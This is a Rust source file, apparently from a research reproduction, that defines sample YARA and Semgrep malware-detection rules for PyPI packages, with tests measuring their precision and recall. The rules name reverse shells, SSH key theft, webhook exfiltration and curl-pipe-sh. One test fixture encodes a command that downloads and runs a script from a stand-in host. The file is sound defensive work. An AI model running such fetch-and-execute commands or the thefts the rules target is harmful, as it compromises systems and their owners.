@@ -1,0 +1,203 @@
+//! SOTA scanner rule corpora (§V-A baseline 1, Table VII/XI).
+//!
+//! The real Yara-scanner ships 4,574 rules and the Semgrep-scanner 2,841,
+//! written for email, cloud, mobile, APT and binary threats; only 46 / 334
+//! target OSS packages. We cannot redistribute those corpora, so this
+//! module carries a representative sample with the same *composition*:
+//! a bulk of generic rules that never fire on PyPI source malware, a few
+//! over-broad generic rules that do fire (on benign code too — the
+//! paper's precision story), and a small OSS-specific subset.
+
+/// Paper-reported corpus sizes, for the Table XI comparison row.
+pub const PAPER_YARA_TOTAL: usize = 4574;
+/// Paper-reported OSS-specific YARA rule count.
+pub const PAPER_YARA_OSS: usize = 46;
+/// Paper-reported Semgrep corpus size.
+pub const PAPER_SEMGREP_TOTAL: usize = 2841;
+/// Paper-reported OSS-specific Semgrep rule count.
+pub const PAPER_SEMGREP_OSS: usize = 334;
+
+/// Generic (non-OSS) YARA rules: PE droppers, phishing mail, webshells,
+/// ransom notes — the corpus bulk that cannot fire on Python sdists.
+pub fn yara_generic() -> Vec<&'static str> {
+    vec![
+        r#"rule pe_header { strings: $mz = "MZ" $pe = "PE\x00\x00" condition: $mz at 0 and $pe }"#,
+        r#"rule upx_packed { strings: $a = "UPX0" $b = "UPX1" condition: all of them }"#,
+        r#"rule phishing_mail { strings: $a = "X-Mailer:" $b = "verify your account" nocase condition: all of them }"#,
+        r#"rule php_webshell { strings: $a = "<?php" $b = "shell_exec(" condition: all of them }"#,
+        r#"rule asp_webshell { strings: $a = "<%eval request" nocase condition: $a }"#,
+        r#"rule powershell_encoded { strings: $a = "powershell" nocase $b = "-EncodedCommand" nocase condition: all of them }"#,
+        r#"rule office_macro { strings: $a = "Auto_Open" $b = "Shell(" condition: all of them }"#,
+        r#"rule ransom_note { strings: $a = "your files have been encrypted" nocase condition: $a }"#,
+        r#"rule mimikatz_artifacts { strings: $a = "sekurlsa::logonpasswords" condition: $a }"#,
+        r#"rule cobalt_beacon_cfg { strings: $a = "\x2e\x2f\x2e\x2f\x2e\x2c" condition: $a at 0 }"#,
+        r#"rule registry_run_key { strings: $a = "CurrentVersion\\Run" condition: $a }"#,
+        r#"rule cmd_exe_dropper { strings: $a = "cmd.exe /c" nocase condition: $a }"#,
+        r#"rule vbs_downloader { strings: $a = "WScript.Shell" condition: $a }"#,
+        r#"rule elf_header { strings: $a = "\x7fELF" condition: $a at 0 }"#,
+        r#"rule onion_service { strings: $a = /[a-z2-7]{16}\.onion/ condition: $a }"#,
+        r#"rule miner_stratum { strings: $a = "stratum+tcp://" condition: $a }"#,
+        r#"rule keylogger_hook { strings: $a = "SetWindowsHookEx" condition: $a }"#,
+        r#"rule autoit_compiled { strings: $a = "AU3!EA06" condition: $a }"#,
+        r#"rule js_obfuscated_eval { strings: $a = "eval(unescape(" condition: $a }"#,
+        r#"rule apk_dex { strings: $a = "classes.dex" condition: $a }"#,
+        r#"rule doc_exploit_rtf { strings: $a = "{\\rtf1" condition: $a at 0 }"#,
+        r#"rule lnk_target { strings: $a = "\x4c\x00\x00\x00\x01\x14\x02\x00" condition: $a at 0 }"#,
+        r#"rule email_attachment_double_ext { strings: $a = ".pdf.exe" nocase condition: $a }"#,
+        r#"rule sql_injection_probe { strings: $a = "' OR '1'='1" condition: $a }"#,
+        r#"rule suspicious_pdb { strings: $a = "\\Release\\stealer.pdb" condition: $a }"#,
+    ]
+}
+
+/// Over-broad generic rules: these DO fire on Python source — both
+/// malicious and benign — dragging the scanner's precision down exactly
+/// as Table VIII reports (35.0% precision).
+pub fn yara_overbroad() -> Vec<&'static str> {
+    vec![
+        // Table I's base64-blob rule: hits obfuscated payloads AND benign
+        // data-URI helpers.
+        r#"rule base64_blob { meta: description = "Base64 encoded blob" strings: $a = /([A-Za-z0-9+\/]{4}){10,}(==|=)?/ condition: $a }"#,
+        r#"rule uses_subprocess { strings: $a = "import subprocess" condition: $a }"#,
+        r#"rule uses_base64_module { strings: $a = "import base64" condition: $a }"#,
+        r#"rule long_hex_string { strings: $a = /[0-9a-f]{48,}/ condition: $a }"#,
+    ]
+}
+
+/// The OSS-specific YARA subset (the paper's 46 rules, sampled): written
+/// for *known* OSS malware shapes, so they catch some families and miss
+/// the rest (23.4% recall in Table VIII).
+pub fn yara_oss() -> Vec<&'static str> {
+    vec![
+        r#"rule oss_exec_b64decode { strings: $a = "exec(base64.b64decode" condition: $a }"#,
+        r#"rule oss_setup_install_hook { strings: $a = "setuptools.command.install" $b = "os.system" condition: all of them }"#,
+        r#"rule oss_curl_pipe_sh { strings: $a = /curl -s https?:\/\/[\w.\/-]+ \| sh/ condition: $a }"#,
+        r#"rule oss_reverse_shell_socket { strings: $a = "socket.socket(socket.AF_INET" $b = "subprocess" condition: all of them }"#,
+        r#"rule oss_discord_webhook { strings: $a = "discord.com/api/webhooks" condition: $a }"#,
+        r#"rule oss_crontab_persistence { strings: $a = "crontab -" condition: $a }"#,
+        r#"rule oss_pip_conf_hijack { strings: $a = "pip.conf" $b = "index-url" condition: all of them }"#,
+        r#"rule oss_w4sp_marker { strings: $a = "w4sp" nocase condition: $a }"#,
+        r#"rule oss_ssh_key_theft { strings: $a = ".ssh/id_rsa" condition: $a }"#,
+        r#"rule oss_eval_compile { strings: $a = "exec(compile(" condition: $a }"#,
+    ]
+}
+
+/// The full simulated Yara-scanner corpus.
+pub fn yara_corpus() -> String {
+    let mut out = String::new();
+    for r in yara_generic()
+        .into_iter()
+        .chain(yara_overbroad())
+        .chain(yara_oss())
+    {
+        out.push_str(r);
+        out.push_str("\n\n");
+    }
+    out
+}
+
+/// Generic Semgrep rules (cloud/web/config targets that cannot fire on
+/// the corpus).
+pub fn semgrep_generic() -> Vec<&'static str> {
+    vec![
+        "rules:\n  - id: generic-flask-debug\n    languages: [python]\n    message: \"flask debug\"\n    severity: WARNING\n    pattern: app.run(debug=True)\n",
+        "rules:\n  - id: generic-yaml-load\n    languages: [python]\n    message: \"unsafe yaml\"\n    severity: WARNING\n    pattern: yaml.load($X)\n",
+        "rules:\n  - id: generic-pickle-loads\n    languages: [python]\n    message: \"unsafe pickle\"\n    severity: WARNING\n    pattern: pickle.loads($X)\n",
+        "rules:\n  - id: generic-md5\n    languages: [python]\n    message: \"weak hash\"\n    severity: INFO\n    pattern: hashlib.md5($X)\n",
+        "rules:\n  - id: generic-tempfile-mktemp\n    languages: [python]\n    message: \"insecure tempfile\"\n    severity: WARNING\n    pattern: tempfile.mktemp(...)\n",
+        "rules:\n  - id: generic-assert-in-prod\n    languages: [python]\n    message: \"assert statement\"\n    severity: INFO\n    pattern: assert_used($X)\n",
+        "rules:\n  - id: generic-sql-format\n    languages: [python]\n    message: \"sql injection\"\n    severity: ERROR\n    pattern: cursor.execute($Q % $ARGS)\n",
+        "rules:\n  - id: generic-requests-noverify\n    languages: [python]\n    message: \"tls verify disabled\"\n    severity: WARNING\n    pattern: requests.get($U, verify=False)\n",
+        "rules:\n  - id: generic-jwt-none\n    languages: [python]\n    message: \"jwt none alg\"\n    severity: ERROR\n    pattern: jwt.decode($T, verify=False)\n",
+        "rules:\n  - id: generic-paramiko-autoadd\n    languages: [python]\n    message: \"ssh autoadd\"\n    severity: WARNING\n    pattern: $C.set_missing_host_key_policy(...)\n",
+    ]
+}
+
+/// The OSS-specific Semgrep subset (the paper's 334, sampled): code-shape
+/// rules for known OSS malware idioms. Catches the families using exactly
+/// those idioms (32.0% recall) with decent precision (70.9%) — plus one
+/// over-broad rule that fires on benign developer tooling.
+pub fn semgrep_oss() -> Vec<&'static str> {
+    vec![
+        "rules:\n  - id: oss-exec-b64\n    languages: [python]\n    message: \"exec of base64 payload\"\n    severity: ERROR\n    pattern: exec(base64.b64decode($X))\n",
+        "rules:\n  - id: oss-popen-shell\n    languages: [python]\n    message: \"shell=True Popen\"\n    severity: WARNING\n    pattern: subprocess.Popen($CMD, shell=True, ...)\n",
+        "rules:\n  - id: oss-setuid-root\n    languages: [python]\n    message: \"setuid(0)\"\n    severity: ERROR\n    pattern: os.setuid(0)\n",
+        "rules:\n  - id: oss-screenshot-grab\n    languages: [python]\n    message: \"screen capture\"\n    severity: WARNING\n    pattern: ImageGrab.grab()\n",
+        "rules:\n  - id: oss-virtualalloc\n    languages: [python]\n    message: \"shellcode allocation\"\n    severity: ERROR\n    pattern: ctypes.windll.kernel32.VirtualAlloc(...)\n",
+        "rules:\n  - id: oss-socket-bind-backdoor\n    languages: [python]\n    message: \"bind shell\"\n    severity: ERROR\n    patterns:\n      - pattern: import socket\n      - pattern: $S.bind(...)\n",
+        "rules:\n  - id: oss-urlretrieve-tmp\n    languages: [python]\n    message: \"download to tmp\"\n    severity: WARNING\n    pattern: urllib.request.urlretrieve(...)\n",
+        "rules:\n  - id: oss-subprocess-output\n    languages: [python]\n    message: \"collects command output\"\n    severity: INFO\n    pattern: subprocess.check_output(...)\n",
+        "rules:\n  - id: oss-run-git\n    languages: [python]\n    message: \"invokes git\"\n    severity: INFO\n    pattern: subprocess.run(...)\n",
+        "rules:\n  - id: oss-environ-dict\n    languages: [python]\n    message: \"bulk environment read\"\n    severity: WARNING\n    pattern: dict(os.environ)\n",
+    ]
+}
+
+/// The full simulated Semgrep-scanner corpus as one YAML document set.
+pub fn semgrep_corpus() -> Vec<&'static str> {
+    semgrep_generic().into_iter().chain(semgrep_oss()).collect()
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn yara_corpus_compiles_as_one_ruleset() {
+        let compiled = yara_engine::compile(&yara_corpus());
+        assert!(compiled.is_ok(), "{:?}", compiled.err());
+        assert!(compiled.expect("ok").len() >= 35);
+    }
+
+    #[test]
+    fn semgrep_corpus_compiles() {
+        for src in semgrep_corpus() {
+            let compiled = semgrep_engine::compile(src);
+            assert!(compiled.is_ok(), "{src}\n{:?}", compiled.err());
+        }
+    }
+
+    #[test]
+    fn generic_rules_do_not_fire_on_python_source() {
+        let compiled = yara_engine::compile(
+            &yara_generic().join("\n\n"),
+        )
+        .expect("compile");
+        let scanner = yara_engine::Scanner::new(&compiled);
+        let benign = b"import os\n\ndef main():\n    print('hello world')\n";
+        assert!(!scanner.is_match(benign));
+    }
+
+    #[test]
+    fn oss_rule_catches_b64_exec() {
+        let compiled = yara_engine::compile(&yara_corpus()).expect("compile");
+        let scanner = yara_engine::Scanner::new(&compiled);
+        let payload = format!(
+            "import base64\nexec(base64.b64decode('{}'))\n",
+            digest::base64::encode(b"import os; os.system('curl https://x.example/s | sh')")
+        );
+        let hits = scanner.scan(payload.as_bytes());
+        assert!(hits.iter().any(|h| h.rule == "oss_exec_b64decode"), "{hits:?}");
+    }
+
+    #[test]
+    fn overbroad_rule_fires_on_benign_data_uri_helper() {
+        let compiled = yara_engine::compile(&yara_overbroad().join("\n\n")).expect("compile");
+        let scanner = yara_engine::Scanner::new(&compiled);
+        let benign = b"import base64\n\ndef data_uri(path):\n    return base64.b64encode(open(path, 'rb').read())\n";
+        assert!(scanner.is_match(benign));
+    }
+
+    #[test]
+    fn semgrep_oss_rule_matches_shape() {
+        let rules = semgrep_engine::compile(semgrep_oss()[0]).expect("compile");
+        let findings = semgrep_engine::scan_source(&rules, "exec(base64.b64decode(p))\n");
+        assert_eq!(findings.len(), 1);
+    }
+
+    #[test]
+    fn paper_counts_recorded() {
+        assert_eq!(PAPER_YARA_TOTAL, 4574);
+        assert_eq!(PAPER_YARA_OSS, 46);
+        assert_eq!(PAPER_SEMGREP_TOTAL, 2841);
+        assert_eq!(PAPER_SEMGREP_OSS, 334);
+    }
+}
